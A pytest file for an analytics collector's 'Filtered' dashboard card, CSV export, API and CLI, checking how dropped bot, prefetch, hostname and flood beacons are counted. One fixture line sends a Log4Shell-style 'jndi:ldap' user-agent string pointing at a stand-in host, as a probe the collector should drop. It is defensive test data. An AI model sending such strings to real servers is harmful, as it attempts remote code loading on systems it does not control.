"""The "Filtered" card, its CSV and the API's ``/filtered``: beacons dropped before counting, by reason.

Every beacon here is sent over HTTP to the real app and dropped (or counted) by the collector's own
rules, then read back through the overview page, the CSV export, the JSON API and ``crumbless stats``:
the figures must be the same everywhere, and must add up to what the collector said it dropped
(its ``X-Crumbless-Dropped`` answers). Only a reason no version of the collector writes yet is
seeded straight into the store, to show that an unknown code is still shown rather than lost.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections import Counter
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from collector import useragents
from collector.aggregator import Batch
from collector.cli import main as cli_main
from collector.config import OPTIONS
from collector.counting import FLOOD_LIMIT
from collector.localtime import day_number
from collector.model import COUNTERS, DROPS
from dashboard import filtered
from tests.conftest import Server
from tests.dashboard_support import Dash, World, _run, _with_store, make_world
from tests.support import CHROME, FIREFOX, GOOGLEBOT, IPHONE, umami
from tests.test_api import validate

DAY = "2026-06-10"  # the server clock's day (tests/conftest.py)
TODAY = f"period=custom&from={DAY}&to={DAY}"
HEADLESS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36"
)
UNKNOWN_REASON = "bot:some-future-kind"


def send(
    server: Server, path: str, peer: str, ua: str = FIREFOX, headers: dict[str, str] | None = None, **payload: Any
) -> str:
    """One Umami beacon; returns the reason the collector gave for dropping it ('' when counted)."""
    body = umami(server.site.website_id, f"https://example.com{path}", **payload)
    answer = server.post("/api/send", body, peer=peer, user_agent=ua, headers=headers)
    assert answer.status_code == 200, answer.text
    return answer.headers.get("x-crumbless-dropped", "")


def seed_drops(server: Server, reason: str, beacons: int) -> None:
    """A dropped-beacon row written the way the flusher writes one, for a reason ingest cannot produce."""
    batch = Batch()
    row = [0] * len(COUNTERS)
    row[DROPS] = beacons
    batch.daily[(server.site.id, day_number(date.fromisoformat(DAY)), "dropped", reason)] = row
    _run(_with_store(server.settings.database, lambda store: store.write_counts(batch)))


EXPECTED = {
    "bot:spider": 3,
    "bot:crawler-list": 1,
    "bot:automation": 1,
    "bot:empty": 1,
    "bot:probe": 1,
    "bot:prefetch": 1,
    "hostname": 1,
    "flood": 2,
}
"""The reason the collector gave for each beacon the fixture sends, and how many times."""
FILTERED = sum(EXPECTED.values())
COUNTED = 4 + 1 + FLOOD_LIMIT  # the people's pageviews and event, and the reloads under the limit
PERCENT = round(100 * FILTERED / (FILTERED + COUNTED), 1)


@pytest.fixture
def world(server: Server) -> Iterator[World]:
    """Three people (4 pageviews, 1 event), a script reloading a page, and each kind of beacon filtered."""
    said: Counter[str] = Counter()
    said[send(server, "/", "198.51.100.20")] += 1
    said[send(server, "/pricing", "198.51.100.20")] += 1
    said[send(server, "/", "192.0.2.5", ua=CHROME)] += 1
    said[send(server, "/docs", "203.0.113.7", ua=IPHONE)] += 1
    said[send(server, "/docs", "203.0.113.7", ua=IPHONE, name="Signup")] += 1
    for _ in range(3):
        said[send(server, "/", "192.0.2.50", ua=GOOGLEBOT)] += 1
    said[send(server, "/", "192.0.2.51", ua="curl/8.5.0")] += 1
    said[send(server, "/", "192.0.2.52", ua=HEADLESS)] += 1
    said[send(server, "/", "192.0.2.53", ua="")] += 1
    said[send(server, "/", "192.0.2.54", ua="Mozilla/5.0 ${jndi:ldap://x.example/a}")] += 1
    said[send(server, "/blog", "192.0.2.55", headers={"Sec-Purpose": "prefetch"})] += 1
    said[send(server, "/", "192.0.2.56", hostname="copy.example")] += 1  # hostname and URL disagree
    # One script reloading a page: the first FLOOD_LIMIT of the minute count, the rest are a flood.
    for _ in range(FLOOD_LIMIT + 2):
        said[send(server, "/", "198.51.100.99", ua=CHROME)] += 1
    assert said == {"": COUNTED, **EXPECTED}, said
    server.flush()
    yield make_world(server)


def card(page: str) -> str:
    found = re.search(r'<section class="card filtered".*?</section>', page, re.S)
    assert found, "the overview has a Filtered card"
    return found.group(0)


def reason_row(section: str, code: str) -> tuple[str, str, int]:
    """(label, explanation, beacons) of one reason's row in the card."""
    row_id = f"filtered-{code.replace(':', '-')}"
    found = re.search(
        rf'<tr id="{re.escape(row_id)}"><th scope="row"><span class="reason">([^<]*)</span>'
        r'<span class="why">([^<]*)</span></th><td class="num">([\d,]+)</td>',
        section,
    )
    assert found, code
    return html.unescape(found.group(1)), html.unescape(found.group(2)), int(found.group(3).replace(",", ""))


def test_the_card_lists_every_reason_grouped_and_explained(world: World) -> None:
    section = card(world.admin.get(f"/sites/{world.site.website_id}?{TODAY}").text)
    for code, beacons in EXPECTED.items():
        label, why, shown = reason_row(section, code)
        assert shown == beacons, code
        assert (label, why) == (filtered.REASON_BY_CODE[code].label, filtered.REASON_BY_CODE[code].description)
    groups = re.findall(r'<tr class="group"><th scope="rowgroup"[^>]*>([^<]+)</th><td class="num">(\d+)</td>', section)
    assert groups == [("Bots", "7"), ("Foreign hostnames", "1"), ("Prefetches", "1"), ("Floods", "2")]
    # Bots by kind, the largest first, all of them under the Bots heading and no other reason there.
    bots = re.findall(r'<tr id="filtered-([^"]+)">', section.split('scope="rowgroup"')[1])
    assert bots[0] == "bot-spider" and sorted(bots) == sorted(
        c.replace(":", "-") for c in EXPECTED if c.startswith("bot:") and "prefetch" not in c
    )
    assert f'id="filtered-total">{FILTERED}<' in section and f'id="filtered-counted">{COUNTED}<' in section
    assert f'id="filtered-percent">{PERCENT:g}%<' in section
    assert "beacons, not visitors" in section and 'class="metric' not in section and 'class="bar"' not in section


def test_filtered_beacons_are_in_no_other_figure(world: World) -> None:
    page = world.admin.get(f"/sites/{world.site.website_id}?{TODAY}").text
    # 3 people and the reloading script, and nothing from the filtered beacons.
    assert 'id="metric-visitors">4<' in page and f'id="metric-pageviews">{COUNTED - 1}<' in page


def test_viewers_see_it_and_share_links_do_not(world: World) -> None:
    site = world.site.website_id
    assert f'id="filtered-total">{FILTERED}<' in card(world.viewer.get(f"/sites/{site}?{TODAY}").text)
    assert world.admin.post(f"/sites/{site}/share", {"enabled": "on"}).status_code == 303
    token = re.search(r"/share/([A-Za-z0-9_-]+)", world.admin.get(f"/sites/{site}/settings").text)
    assert token, "the settings page shows the share link"
    shared = world.anonymous().get(f"/share/{token.group(1)}?{TODAY}")
    assert shared.status_code == 200 and 'id="metric-visitors">4<' in shared.text
    assert "Filtered" not in shared.text and "bot:" not in shared.text
    assert world.anonymous().get(f"/share/{token.group(1)}/export/filtered.csv?{TODAY}").status_code == 404


def test_an_empty_range_says_nothing_was_filtered(world: World) -> None:
    section = card(world.admin.get(f"/sites/{world.site.website_id}?period=custom&from=2026-06-01&to=2026-06-09").text)
    assert 'id="filtered-none"' in section and "Nothing was filtered in this range" in section
    assert "filtered.csv" not in section and "<table" not in section


def test_a_site_whose_every_beacon_was_filtered_says_so_in_its_install_help(world: World) -> None:
    server, other = world.server, world.other
    for ua in (GOOGLEBOT, "curl/8.5.0"):
        body = umami(other.website_id, "https://other.org/", hostname="other.org")
        assert server.post("/api/send", body, peer="192.0.2.60", user_agent=ua).headers["x-crumbless-dropped"]
    server.flush()
    page = world.admin.get(f"/sites/{other.website_id}?period=today").text
    assert "No data yet" in page and "2 beacons arrived in this range but were not counted" in page
    assert 'href="#filtered-title"' in page and 'id="filtered-total">2<' in card(page)


def test_an_unknown_reason_is_shown_by_its_code_under_other(world: World) -> None:
    seed_drops(world.server, UNKNOWN_REASON, 4)
    section = card(world.admin.get(f"/sites/{world.site.website_id}?{TODAY}").text)
    assert reason_row(section, UNKNOWN_REASON) == (UNKNOWN_REASON, filtered.OTHER.description, 4)
    assert section.rindex('scope="rowgroup"') < section.index(UNKNOWN_REASON)  # the last group
    assert f'id="filtered-total">{FILTERED + 4}<' in section


def _cli_report(world: World, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Any:
    for option in OPTIONS:
        monkeypatch.delenv(option.name, raising=False)
    monkeypatch.setenv("CRUMBLESS_DATA_DIR", str(world.server.settings.data_dir))
    capsys.readouterr()
    assert cli_main(["stats", world.site.website_id, "--from", DAY, "--to", DAY, "--json"]) == 0
    return json.loads(capsys.readouterr().out)


def test_api_csv_and_cli_give_the_cards_figures(
    world: World, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    site = world.site.website_id
    for who in (world.admin, world.viewer):
        token = world.token(who)
        answer = Dash(world.server).get(
            f"/api/v1/sites/{site}/filtered?{TODAY}", headers={"Authorization": f"Bearer {token}"}
        )
        assert answer.status_code == 200, answer.text
        body = answer.json()
        validate(body, "Filtered")
        assert (body["filtered"], body["counted"], body["filtered_percent"]) == (FILTERED, COUNTED, PERCENT)
        assert {r["reason"]: r["beacons"] for g in body["groups"] for r in g["reasons"]} == EXPECTED
        assert [g["group"] for g in body["groups"]] == ["bots", "hostname", "prefetch", "flood"]
        assert [r["reason"] for r in body["groups"][0]["reasons"]][0] == "bot:spider"  # the largest first
    exported = world.admin.get(f"/sites/{site}/export/filtered.csv?{TODAY}")
    assert (
        exported.status_code == 200 and "filtered-2026-06-10-2026-06-10.csv" in exported.headers["content-disposition"]
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert list(rows[0]) == list(filtered.CSV_COLUMNS)
    assert {r["reason"]: int(r["beacons"]) for r in rows} == EXPECTED
    assert [r["group"] for r in rows] == [g["group"] for g in body["groups"] for _ in g["reasons"]]
    cli = _cli_report(world, capsys, monkeypatch)  # its JSON keeps the form it always had: codes and counts
    assert cli["dropped"] == EXPECTED and "filtered" not in cli


def test_every_reason_the_collector_gives_is_described() -> None:
    """A reason the collector starts writing must get a name here, not fall into "Other"."""
    kinds = {getattr(useragents, name) for name in useragents.__all__ if name.isupper() and name != "UNKNOWN"}
    signals = {signal for _, _, signal in useragents._PURPOSE_HEADERS}
    assert signals == set(filtered.PREFETCH_SIGNALS)
    produced = {f"bot:{k}" for k in kinds | signals} | {filtered.HOSTNAME, filtered.FLOOD}
    assert produced == set(filtered.REASON_BY_CODE)
    assert {r.group for r in filtered.REASONS} | {filtered.OTHER.key} == set(filtered.GROUP_BY_KEY)


def test_the_openapi_document_names_the_groups() -> None:
    document = json.loads((Path(filtered.__file__).parent / "openapi.json").read_text())
    enum = document["components"]["schemas"]["FilteredGroup"]["properties"]["group"]["enum"]
    assert enum == [g.key for g in filtered.GROUPS]
